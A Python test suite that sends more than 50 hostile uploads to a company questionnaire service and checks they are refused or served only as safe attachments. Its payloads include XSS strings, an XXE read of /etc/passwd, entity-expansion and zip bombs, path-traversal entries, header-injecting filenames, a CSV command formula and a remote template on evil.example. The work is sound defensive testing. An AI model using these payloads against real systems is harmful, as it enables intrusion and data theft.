"""50 hostile files sent as a company's page sends them: refused with a sentence, or kept and only ever handed out to be kept."""

import gzip
import io
import tarfile
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from company_callers import Caller, client_of, service
from company_world import companies
from sent_files import GOOD, SentFile, locked, office, pdf, picture, wide_png, xlsx

from award.database.transactions import Database
from award.editions.bilingual import Words
from award.questionnaire.definition.document import Dimension, Domain, Question, Questionnaire

ANY = Questionnaire(
    (Domain("d", Words("D"), (Dimension("d", Words("D"), (Question("piece", "file", Words("Pièce"), files=100),)),)),)
)
EVIL = b"<script>alert(1)</script>"
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = (
    b"<!DOCTYPE x ["
    + b"".join(b'<!ENTITY l%d "%s">' % (at, b"&l%d;" % (at - 1) * 10) for at in range(1, 12))
    + b"]><x>&l11;</x>"
)


def archive(parts: dict[str, bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", packing) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return target.getvalue()


def tape() -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w:gz") as made:
        made.addfile(tarfile.TarInfo("../../etc/passwd"))
    return target.getvalue()


MORE = {
    "empty pdf": SentFile("vide.pdf", b""),
    "empty text": SentFile("vide.txt", b""),
    "half a pdf": SentFile("moitie.pdf", pdf()[: len(pdf()) // 2]),
    "half a picture": SentFile("moitie.png", picture()[:60]),
    "half a workbook": SentFile("moitie.xlsx", xlsx()[:-200]),
    "head of a pdf alone": SentFile("tete.pdf", b"%PDF-1.7\n"),
    "page after a pdf": SentFile("suite.pdf", pdf() + b"\n<html>" + EVIL),
    "archive after a picture": SentFile("suite.png", picture() + archive({"a.exe": b"MZ"})),
    "archive after a pdf": SentFile("suite2.pdf", pdf() + archive({"x.js": b"1"})),
    "page before a pdf": SentFile("avant.pdf", EVIL + pdf()),
    "picture that is a page": SentFile("gif.png", b"GIF89a/*" + EVIL + b"*/=1;"),
    "svg": SentFile("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "svg as png": SentFile("logo.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "page": SentFile("page.html", b"<html>" + EVIL),
    "page as csv": SentFile("page.csv", b"<!doctype html>" + EVIL),
    "page as text in 16 bits": SentFile("seize.txt", "<script>alert(1)</script>".encode("utf-16")),
    "page as text in 7 bits": SentFile("sept.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "handler as text": SentFile("geste.txt", b"<img src=x onerror=alert(1)>"),
    "script": SentFile("macro.js", b"alert(1)"),
    "program of another ending": SentFile("facture.pdf.exe", b"MZ" + bytes(99)),
    "program as docx": SentFile("facture.docx", b"MZ" + bytes(99)),
    "old word": SentFile("ancien.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)),
    "any archive": SentFile("tout.docx", archive({"a.txt": b"a"})),
    "zip": SentFile("tout.zip", archive({"a.txt": b"a"})),
    "gzip as docx": SentFile("tout2.docx", gzip.compress(b"a" * 999)),
    "tape": SentFile("tout.xlsx", tape()),
    "bomb": SentFile("bombe.docx", office(parts={"word/media/zero.bin": bytes(60_000_000)})),
    "many parts": SentFile("foule.docx", archive({f"word/{at}.xml": b"" for at in range(4_000)})),
    "nested": SentFile("poupee.docx", office(parts={"word/media/a.zip": archive({"b.zip": archive({"c": bytes(9_999)})})})),
    "macros": SentFile("macros.docx", office(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "macros of a workbook": SentFile("macros.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"})),
    "entities in a document": SentFile("entites.docx", office(parts={"word/styles.xml": ENTITIES})),
    "entities in a workbook": SentFile("entites.xlsx", office("xlsx", {"xl/sharedStrings.xml": ENTITIES})),
    "entities in 16 bits": SentFile("entites16.docx", office(parts={"word/styles.xml": ENTITIES.decode().encode("utf-16")})),
    "entities by the million": SentFile("rires.docx", office(parts={"word/styles.xml": LAUGHS})),
    "template of elsewhere": SentFile("modele.docx", office(parts={"word/_rels/settings.xml.rels":
        b'<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'})),
    "part of elsewhere": SentFile("ailleurs.docx", office(parts={"../../../tmp/evil.xml": b"<x/>"})),
    "part at the root": SentFile("racine.docx", office(parts={"/etc/cron.d/evil": b"* * * * * root id"})),
    "part of windows": SentFile("fenetre.docx", office(parts={"..\\..\\evil.dll": b"MZ"})),
    "locked": SentFile("secret.docx", locked(office())),
    "picture of the size of a town": SentFile("ville.png", wide_png(2**31 - 1, 2**31 - 1)),
    "picture of no size": SentFile("rien.png", wide_png(0, 0)),
    "name that climbs": SentFile("../../../../tmp/evil.pdf", pdf()),
    "name that climbs in windows": SentFile("..\\..\\evil.pdf", pdf() + b"\n"),
    "name of the root": SentFile("/etc/cron.d/evil.txt", b"bonjour"),
    "name with a header": SentFile('x"\r\nSet-Cookie: session=evil\r\n.txt', b"bonjour 2"),
    "name with a null": SentFile("note.txt\0.exe", b"bonjour 3"),
    "name turned round": SentFile("note\u202efdp.txt", b"bonjour 4"),
    "name of a device": SentFile("CON.txt", b"bonjour 5"),
    "name without end": SentFile("n" * 300 + ".txt", b"bonjour 6"),
    "name of nothing": SentFile(".txt", b"bonjour 7"),
    "name that is a page": SentFile("<img src=x onerror=alert(1)>.txt", b"bonjour 8"),
    "formula in a csv": SentFile("chiffres.csv", b"a;b\n=cmd|' /C calc'!A0;1\n"),
    "nulls in a text": SentFile("nuls.txt", b"a\0b"),
}  # fmt: skip
"""Beside those of `sent_files`, which are known one by one to be refused; some of these are harmless but for their name."""


@pytest.fixture
def company(database: Database, tmp_path: Path) -> Iterator[Caller]:
    there = companies(database, ANY)
    with client_of(service(there, tmp_path)) as client:
        yield Caller(there, client, there.olive)


def everything_below(folder: Path) -> set[Path]:
    return {one for one in folder.rglob("*") if one.is_file()}


def test_there_are_enough_files() -> None:
    assert len(MORE) > 50


def test_hostile_file_is_refused_with_a_sentence_or_only_ever_an_attachment(company: Caller, tmp_path: Path) -> None:
    outside, broken, kept = everything_below(tmp_path), {}, {}
    for what, (name, content) in MORE.items():
        answer = company.send("piece", name, content)
        if answer.status_code == 200:
            kept[what] = answer.json()["file"]
        elif answer.status_code not in {413, 422} or len(answer.json()["title"]) < 20 or "<" in answer.json()["title"]:
            broken[what] = (answer.status_code, answer.text[:300])
    assert broken == {}
    assert {name for name in kept if not name.startswith("name ")} <= HARMLESS
    for what, one in kept.items():
        told = company.get(f"files/{one['id']}")
        assert told.status_code == 200, what
        assert told.content == MORE[what].content
        assert told.headers["content-disposition"].startswith("attachment"), what
        assert told.headers["content-type"] == "application/octet-stream", what
        assert told.headers["x-content-type-options"] == "nosniff"
        assert (
            "sandbox" in told.headers["content-security-policy"]
            or "default-src" in told.headers["content-security-policy"]
        )
        assert "evil" not in told.headers.get("set-cookie", "")
        assert not set(one["name"]) & set('/\\<>"\r\n\0\u202e'), one["name"]
        assert len(one["name"].encode()) <= 120
    stored = {one.name for one in everything_below(tmp_path / "files") - outside}
    assert stored <= {one.name for one in everything_below(tmp_path)}
    assert all(len(one) == 64 and set(one) <= set("0123456789abcdef") for one in stored), stored
    assert not Path("/tmp/evil.pdf").exists()  # noqa: S108 - where nobody may have written


HARMLESS = {"handler as text", "page as text in 7 bits"}
"""Texts that no program shows as a page, as long as nobody serves them as one."""


@pytest.mark.parametrize("database_kind", ["sqlite"])
def test_page_of_a_question_shows_no_file_in_itself(company: Caller) -> None:
    for name, content in (MORE["name that is a page"], GOOD["png"], GOOD["pdf"]):
        assert company.send("piece", name, content).status_code == 200
    page = company.get("d").text
    assert "<img" not in page
    assert "<embed" not in page
    assert "<object" not in page
    assert "<iframe" not in page
    assert 'src="/my-company' not in page
